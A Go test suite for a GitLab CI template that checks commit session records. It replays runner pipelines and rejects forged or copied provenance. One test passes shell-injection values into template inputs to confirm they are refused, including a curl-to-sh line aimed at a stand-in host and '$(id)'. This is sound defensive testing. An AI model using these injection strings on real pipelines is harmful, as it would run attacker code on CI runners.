package main

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"
)

// TestVerifyGitLabTemplate replays ci/gitlab/sessiongate-verify.gitlab-ci.yml
// as a GitLab runner would: the checkout the runner makes (git init, fetch
// refs/pipelines/<id> and the branches at GIT_DEPTH, a detached checkout of
// CI_COMMIT_SHA), the variables GitLab sets for merge request, merged
// results, push and new-branch pipelines and for a fork's merge request,
// then the template's own script lines (read from the file, never retyped)
// in one bash, with the released binary fetched from a local release host
// and checked against its checksums.txt.
func TestVerifyGitLabTemplate(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("curl"); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("curl is required under CI=true: %v", err)
		}
		t.Skip("curl not found: the template's install step needs it")
	}
	spec, jobText := readGitLabTemplate(t)
	if len(spec) == 0 {
		t.Fatal("the template declares no spec: inputs")
	}
	job := func(t *testing.T, inputs map[string]string) gitlabJob {
		t.Helper()
		text, err := interpolateInputs(jobText, spec, inputs)
		if err != nil {
			t.Fatal(err)
		}
		var tmpl map[string]gitlabJob
		if err := yaml.Unmarshal([]byte(text), &tmpl); err != nil {
			t.Fatal(err)
		}
		j, ok := tmpl["sessiongate-verify"]
		if !ok || len(j.Script) == 0 || j.Artifacts.Reports.Codequality == "" {
			t.Fatalf("the template has no sessiongate-verify job with a script and a codequality report: %+v", tmpl)
		}
		// Its settings are inputs: a job variable is one a pusher overrides.
		for k := range j.Variables {
			if strings.HasPrefix(k, "SESSIONGATE_") {
				t.Fatalf("the job still reads its setting %s from a variable", k)
			}
		}
		return j
	}
	srv, _ := newReleaseHost(t)
	w := newCIWorld(t)
	w.git(t, w.dir, "clone", "-q", "--mirror", w.remote, w.fork)
	// A merged-results pipeline runs on a merge commit GitLab makes of the
	// source branch into the target's tip (no trailer).
	mergeResult := func(n, head string) string {
		tmp := filepath.Join(w.dir, "gitlab-merge-"+n)
		w.git(t, w.dir, "clone", "-q", w.remote, tmp)
		w.git(t, tmp, "-c", "user.name=GitLab", "-c", "user.email=noreply@gitlab.invalid", "-c", "core.hooksPath=/dev/null",
			"merge", "-q", "--no-ff", "-m", "Merge branch into main", head)
		w.git(t, tmp, "push", "-q", "origin", "HEAD:refs/merge-requests/"+n+"/merge")
		return w.git(t, tmp, "rev-parse", "HEAD")
	}
	merged := mergeResult("3", w.work2)
	// A fork as GitLab makes one (branches, no records ref), whose owner's
	// pre-push sent the records of their own sessions only: a merge
	// request from it stacked on this project's feature branch carries
	// commits whose records only the project holds (helper 362).
	stacked := filepath.Join(w.dir, "gl-stacked-fork.git")
	w.git(t, w.dir, "init", "-q", "--bare", stacked)
	w.git(t, w.remote, "push", "-q", "file://"+stacked, "refs/heads/*:refs/heads/*")
	{
		empty := w.git(t, stacked, "hash-object", "-t", "tree", "-w", "/dev/null")
		w.git(t, stacked, "update-ref", "refs/sessiongate/records", w.git(t, stacked, "commit-tree", "-m", "the contributor's records", empty))
		forgeRecord(t, w, stacked, "sessions/0f/0f0f0f0f-0000-4000-8000-000000000003.json", `{"session_id":"0f0f0f0f-0000-4000-8000-000000000003"}`)
	}
	pipeline := 0
	// checkout is the runner's fetch strategy: GitLab points
	// refs/pipelines/<id> at the commit; the runner fetches it and the
	// branches at depth, then checks the commit out detached.
	checkout := func(t *testing.T, sha string, depth int) string {
		pipeline++
		return w.gitlabBuild(t, strconv.Itoa(pipeline), sha, depth, "+refs/heads/*:refs/remotes/origin/*")
	}
	project := []string{"GITLAB_CI=true", "CI=true", "CI_PROJECT_ID=1", "CI_DEFAULT_BRANCH=main", "CI_SERVER_URL=https://gitlab.invalid"}
	mr := func(iid, head string, extra ...string) []string {
		return append([]string{"CI_PIPELINE_SOURCE=merge_request_event", "CI_MERGE_REQUEST_IID=" + iid, "CI_MERGE_REQUEST_DIFF_BASE_SHA=" + w.main,
			"CI_COMMIT_BEFORE_SHA=" + zero40, "CI_COMMIT_REF_NAME=" + head, "CI_MERGE_REQUEST_TARGET_BRANCH_NAME=main",
			"CI_MERGE_REQUEST_SOURCE_BRANCH_NAME=" + head, // the records of its sessions say the branch: checked against it
			"CI_MERGE_REQUEST_SOURCE_PROJECT_URL=file://" + w.remote, "CI_MERGE_REQUEST_SOURCE_PROJECT_ID=1"}, extra...)
	}
	push := func(branch, before, sha string) []string {
		return []string{"CI_PIPELINE_SOURCE=push", "CI_COMMIT_BRANCH=" + branch, "CI_COMMIT_REF_NAME=" + branch, "CI_COMMIT_BEFORE_SHA=" + before, "CI_COMMIT_SHA=" + sha}
	}
	cases := []struct {
		name   string
		sha    string // what the runner checks out
		depth  int    // GIT_DEPTH (0: full)
		env    []string
		inputs map[string]string // the include's inputs beside version, releases and bin_dir
		code   int
		want   []string
		issues int // Code Quality entries
		setup  func(t *testing.T)
		check  func(t *testing.T)
	}{
		{name: "merge request pipeline, honest", sha: w.work2, depth: 20,
			env:  append(mr("1", "feature"), "CI_COMMIT_SHA="+w.work2),
			want: []string{`(?m)^2 commit\(s\)`, `GitLab merge request !1`, `installed sessiongate v1\.2\.3 `}},
		{name: "merge request pipeline, GIT_DEPTH 1, a commit without trailer", sha: w.notrailer, depth: 1,
			env:  append(mr("2", "bad-notrailer"), "CI_COMMIT_SHA="+w.notrailer),
			code: 1, issues: 1, want: []string{`(?m)^FAIL .* sneak a change`, `(?m)^3 commit\(s\)`, `(?m)^fetched: git fetch`}},
		{name: "merged results pipeline: the source branch's commits, not GitLab's merge commit", sha: merged, depth: 20,
			env:  append(mr("3", "feature"), "CI_COMMIT_SHA="+merged, "CI_MERGE_REQUEST_SOURCE_BRANCH_SHA="+w.work2, "CI_MERGE_REQUEST_EVENT_TYPE=merged_result"),
			want: []string{`(?m)^2 commit\(s\)`, `not the merged-results commit`}},
		{name: "push pipeline, GIT_DEPTH 1, copied trailers", sha: w.copied, depth: 1,
			env:  push("bad-copied", w.work2, w.copied),
			code: 1, issues: 1, want: []string{`(?m)^FAIL .* borrowed trailers`, `trailers copied`, `CI_COMMIT_BEFORE_SHA\.\.CI_COMMIT_SHA`}},
		{name: "push pipeline creating a branch (all-zero CI_COMMIT_BEFORE_SHA)", sha: w.work2, depth: 20,
			env:  push("feature", zero40, w.work2),
			want: []string{`(?m)^2 commit\(s\) in origin/main\.\.`, `new branch feature`}},
		{name: "a fork's merge request: records fetched from the source project", sha: w.work2, depth: 20,
			setup: func(t *testing.T) { w.git(t, w.remote, "update-ref", "-d", "refs/sessiongate/records") },
			env: append(mr("4", "feature"), "CI_COMMIT_SHA="+w.work2, "CI_MERGE_REQUEST_SOURCE_PROJECT_URL=file://"+w.fork,
				"CI_MERGE_REQUEST_SOURCE_PROJECT_ID=2"),
			want: []string{`(?m)^2 commit\(s\)`, `(?m)^OK .* add work1\.txt`}},
		// SESSIONGATE_FORK_RECORDS=push: the job pushes the merge request's
		// records to this project with the job token (its https URL led to
		// the bare origin by url.insteadOf); a session the fork ran that no
		// commit of the merge request names stays on the fork.
		{name: "a fork's merge request, SESSIONGATE_FORK_RECORDS=push: only its sessions' records reach the project", sha: w.work2, depth: 20,
			setup: func(t *testing.T) {
				w.git(t, w.remote, "update-ref", "-d", "refs/sessiongate/records")
				forgeRecord(t, w, w.fork, "sessions/0f/0f0f0f0f-0000-4000-8000-000000000002.json", `{"session_id":"0f0f0f0f-0000-4000-8000-000000000002"}`)
			},
			env: append(mr("5", "feature"), "CI_COMMIT_SHA="+w.work2, "CI_MERGE_REQUEST_SOURCE_PROJECT_URL=file://"+w.fork,
				"CI_MERGE_REQUEST_SOURCE_PROJECT_ID=2", "CI_JOB_TOKEN=tok", "CI_SERVER_HOST=gitlab.invalid",
				"CI_PROJECT_PATH=acme/project", "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=url.file://"+w.remote+".insteadOf",
				"GIT_CONFIG_VALUE_0=https://gitlab-ci-token:tok@gitlab.invalid/acme/project.git"),
			inputs: map[string]string{"fork_records": "push"},
			want:   []string{`(?m)^OK .* add work1\.txt`, `pushed \d+ record file\(s\) of session\(s\) `},
			check: func(t *testing.T) {
				held := w.git(t, w.remote, "ls-tree", "-r", "--name-only", "refs/sessiongate/records")
				if strings.Contains(held, "0f0f0f0f-0000-4000-8000-000000000002") {
					t.Error("the project holds the fork's unrelated session record")
				}
				sid := w.git(t, w.remote, "log", "-1", "--format=%(trailers:key=Session-Id,valueonly)", w.work2)
				if sid == "" || !strings.Contains(held, sid) {
					t.Errorf("the project lacks the merge request's session record %q:\n%s", sid, held)
				}
			}},
		{name: "TestR63H362 a fork's merge request stacked on the project's branch: the project's records with the fork's merged in", sha: w.work2, depth: 20,
			env: append(mr("6", "feature"), "CI_COMMIT_SHA="+w.work2, "CI_MERGE_REQUEST_SOURCE_PROJECT_URL=file://"+stacked,
				"CI_MERGE_REQUEST_SOURCE_PROJECT_ID=2"),
			want: []string{`(?m)^OK .* add work1\.txt`, `merging refs/sessiongate/records from the source project`}},
		{name: "TestR63H362 lazy twin: a hooks-off commit from the same fork fails", sha: w.notrailer, depth: 20,
			env: append(mr("7", "bad-notrailer"), "CI_COMMIT_SHA="+w.notrailer, "CI_MERGE_REQUEST_SOURCE_PROJECT_URL=file://"+stacked,
				"CI_MERGE_REQUEST_SOURCE_PROJECT_ID=2"),
			code: 1, issues: 1, want: []string{`(?m)^FAIL .* sneak a change`, `(?m)^OK .* add work1\.txt`}},
		// A fork's records ref carrying the project's record of the
		// merge request's session edited ABANDONED and ground to win the
		// larger-id union (helper 368): the job judges the project's copy
		// (records pull --keep-local: "says the session ended COMPLETE"),
		// not the fork's ("ended ABANDONED, not COMPLETE"); the fork's
		// version in the merged history fails the commits of its own
		// merge request, which is the fork's to spoil.
		{name: "TestR64H368 a fork's ground copy of a record the project holds is not judged", sha: w.work2, depth: 20,
			setup: func(t *testing.T) { h368GroundFork(t, w, filepath.Join(w.dir, "gl-ground-fork.git"), w.work2) },
			env: append(mr("8", "feature"), "CI_COMMIT_SHA="+w.work2, "CI_MERGE_REQUEST_SOURCE_PROJECT_URL=file://"+filepath.Join(w.dir, "gl-ground-fork.git"),
				"CI_MERGE_REQUEST_SOURCE_PROJECT_ID=2"),
			code: 1, issues: 2, want: []string{`(?m)^FAIL .* add work2\.txt`, `says the session ended COMPLETE, but a version with an end`}},
		// A pusher's pipeline variables (git push -o ci.variable=...)
		// named as the old settings: a range of nothing, a release host of
		// their own. Before inputs, the job's variables were theirs to
		// override, and verify got the pusher's range; now the job stops,
		// naming the input.
		{name: "lazy: a pipeline variable SESSIONGATE_ARGS names an empty range", sha: w.notrailer, depth: 20,
			env:  append(push("bad-notrailer", w.main, w.notrailer), "SESSIONGATE_ARGS="+w.notrailer+".."+w.notrailer),
			code: 2, want: []string{`SESSIONGATE_ARGS is set as a CI/CD variable: this template takes its settings as inputs`}},
		{name: "lazy: a pipeline variable SESSIONGATE_RELEASES points at another host", sha: w.notrailer, depth: 20,
			env:  append(push("bad-notrailer", w.main, w.notrailer), "SESSIONGATE_RELEASES=https://pusher.invalid/releases"),
			code: 2, want: []string{`SESSIONGATE_RELEASES is set as a CI/CD variable`}},
		// The honest twin: the same commit through the include's inputs is
		// checked, and fails as it should.
		{name: "push pipeline, the include's args input", sha: w.notrailer, depth: 20,
			env:    push("bad-notrailer", w.main, w.notrailer),
			inputs: map[string]string{"args": "--recheck 5"},
			code:   1, issues: 1, want: []string{`(?m)^FAIL .* sneak a change`}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if c.setup != nil {
				c.setup(t)
			}
			ci := checkout(t, c.sha, c.depth)
			// Under the world's folder: a subtest's own folder holds its
			// name's commas and quotes, which bin_dir's regex refuses.
			binDir, err := os.MkdirTemp(w.dir, "bin")
			if err != nil {
				t.Fatal(err)
			}
			inputs := map[string]string{"version": "v1.2.3", "releases": srv.URL + "/releases", "bin_dir": binDir}
			for k, v := range c.inputs {
				inputs[k] = v
			}
			job := job(t, inputs)
			env := append([]string{}, w.env...)
			for k, v := range job.Variables {
				env = append(env, k+"="+v)
			}
			env = append(env, project...)
			env = append(env, c.env...)
			env = append(env, "GIT_DEPTH="+strconv.Itoa(c.depth), "CI_PROJECT_DIR="+ci)
			// The job's image has no sessiongate: only the one installed.
			var path []string
			for _, d := range filepath.SplitList(os.Getenv("PATH")) {
				if _, err := os.Stat(filepath.Join(d, "sessiongate")); err != nil {
					path = append(path, d)
				}
			}
			env = append(env, "PATH="+binDir+string(os.PathListSeparator)+strings.Join(path, string(os.PathListSeparator)))
			jobTmp := t.TempDir()
			env = append(env, "TMPDIR="+jobTmp)
			cmd := exec.Command("bash", "-e", "-c", strings.Join(job.Script, "\n"))
			cmd.Dir = ci
			cmd.Env = append(os.Environ(), env...)
			out, err := cmd.CombinedOutput()
			// The download folder goes when the job's shell ends.
			if left, _ := os.ReadDir(jobTmp); len(left) > 0 {
				t.Fatalf("the job left %d entries in TMPDIR (%s first)", len(left), left[0].Name())
			}
			code := 0
			if ee, ok := err.(*exec.ExitError); ok {
				code = ee.ExitCode()
			} else if err != nil {
				t.Fatal(err)
			}
			if code != c.code {
				t.Fatalf("the template's script: exit %d, want %d\n%s", code, c.code, out)
			}
			for _, re := range c.want {
				if !regexp.MustCompile(re).Match(out) {
					t.Errorf("output does not match %s:\n%s", re, out)
				}
			}
			if regexp.MustCompile(`(?m)^(OK|FAIL|WARN) .*Merge branch`).Match(out) {
				t.Errorf("GitLab's merge commit was checked:\n%s", out)
			}
			if c.check != nil {
				c.check(t)
			}
			if c.code == 2 {
				return // stopped before verify: no report
			}
			rb, err := os.ReadFile(filepath.Join(ci, job.Artifacts.Reports.Codequality))
			if err != nil {
				t.Fatalf("no Code Quality report at %s: %v", job.Artifacts.Reports.Codequality, err)
			}
			var issues []map[string]any
			if err := json.Unmarshal(rb, &issues); err != nil || len(issues) < c.issues || c.issues == 0 && len(issues) != 0 {
				t.Errorf("Code Quality report: %d issue(s), want %d (%v):\n%s", len(issues), c.issues, err, rb)
			}
		})
	}
}

// forgeRecord commits body at path onto the records ref of the repository
// at dir, as the owner of a fork can.
func forgeRecord(t *testing.T, w *ciWorld, dir, path, body string) {
	t.Helper()
	idx := "GIT_INDEX_FILE=" + filepath.Join(t.TempDir(), "index")
	run := func(stdin string, args ...string) string {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = append(append(os.Environ(), w.env...), idx)
		cmd.Stdin = strings.NewReader(stdin)
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	tip := run("", "rev-parse", "refs/sessiongate/records")
	run("", "read-tree", tip)
	blob := run(body, "hash-object", "-w", "--stdin")
	run("", "update-index", "--add", "--cacheinfo", "100644,"+blob+","+path)
	tree := run("", "write-tree")
	run("", "update-ref", "refs/sessiongate/records", run("", "commit-tree", "-p", tip, "-m", "forged", tree))
}

// gitlabJob is the part of the template's job the replay reads.
type gitlabJob struct {
	Variables map[string]string
	Script    []string
	Artifacts struct {
		Reports struct{ Codequality string }
	}
}

// gitlabInput is one of the template's spec: inputs.
type gitlabInput struct {
	Default *string
	Regex   string
	Options []string
}

// readGitLabTemplate splits the template into its spec's inputs and the
// job document after the "---" GitLab's header ends with.
func readGitLabTemplate(t *testing.T) (map[string]gitlabInput, string) {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "..", "ci", "gitlab", "sessiongate-verify.gitlab-ci.yml"))
	if err != nil {
		t.Fatal(err)
	}
	head, jobText, ok := strings.Cut(string(b), "\n---\n")
	if !ok {
		t.Fatal("the template has no spec header ending in ---")
	}
	var spec struct {
		Spec struct{ Inputs map[string]gitlabInput }
	}
	if err := yaml.Unmarshal([]byte(head), &spec); err != nil {
		t.Fatal(err)
	}
	return spec.Spec.Inputs, jobText
}

var inputRef = regexp.MustCompile(`\$\[\[\s*inputs\.([A-Za-z0-9_]+)\s*\]\]`)

// interpolateInputs is GitLab's interpolation of $[[ inputs.NAME ]] as
// an include with the given inputs makes it: an unknown name, an input
// with no value and no default, or a value its regex or options refuse is
// an error, as GitLab refuses the pipeline. (GitLab's regexes are RE2, as
// Go's.)
func interpolateInputs(text string, spec map[string]gitlabInput, given map[string]string) (string, error) {
	values := map[string]string{}
	for name, in := range spec {
		v, ok := given[name]
		if !ok {
			if in.Default == nil {
				return "", fmt.Errorf("input %s: no value and no default", name)
			}
			v = *in.Default
		}
		if in.Regex != "" && !regexp.MustCompile(in.Regex).MatchString(v) {
			return "", fmt.Errorf("input %s: %q does not match %s", name, v, in.Regex)
		}
		if len(in.Options) > 0 && !slices.Contains(in.Options, v) {
			return "", fmt.Errorf("input %s: %q is not one of %v", name, v, in.Options)
		}
		values[name] = v
	}
	for name := range given {
		if _, ok := spec[name]; !ok {
			return "", fmt.Errorf("input %s: the template declares no such input", name)
		}
	}
	var bad error
	out := inputRef.ReplaceAllStringFunc(text, func(m string) string {
		name := inputRef.FindStringSubmatch(m)[1]
		v, ok := values[name]
		if !ok && bad == nil {
			bad = fmt.Errorf("the template uses $[[ inputs.%s ]], which its spec does not declare", name)
		}
		return v
	})
	return out, bad
}

// TestGitLabTemplateInputs: the template's inputs are pasted into its
// shell between single quotes, so each input's regex must refuse a quote
// and anything else that would end the string or run a command; the
// values the docs show pass.
func TestGitLabTemplateInputs(t *testing.T) {
	spec, jobText := readGitLabTemplate(t)
	if _, err := interpolateInputs(jobText, spec, nil); err != nil {
		t.Fatalf("the defaults: %v", err)
	}
	for _, c := range []struct {
		name, value string
		ok          bool
	}{
		{"args", "--rerun", true},
		{"args", "--recheck 20 --rerun", true},
		{"args", "--range main..HEAD", true},
		{"args", "--rerun'; curl https://x.invalid | sh; '", false},
		{"args", "$(id)", false},
		{"args", "--rerun `id`", false},
		{"releases", "https://github.com/sessiongate/sessiongate/releases", true},
		{"releases", "https://x.invalid/r' ; id ; '", false},
		{"bin_dir", "/usr/local/bin", true},
		{"bin_dir", "/tmp/x y", false},
		{"version", "v1.2.3", true},
		{"version", "1.2.3-rc.1", true},
		{"version", "latest; id", false},
		{"records_ref", "refs/sessiongate/records", true},
		{"records_ref", "refs/x'y", false},
		{"fork_records", "push", true},
		{"fork_records", "always", false},
		{"src_ref", "main", true},
		{"src_ref", "-o x", false},
	} {
		_, err := interpolateInputs(jobText, spec, map[string]string{c.name: c.value})
		if (err == nil) != c.ok {
			t.Errorf("input %s = %q: error %v, want accepted %v", c.name, c.value, err, c.ok)
		}
	}
}
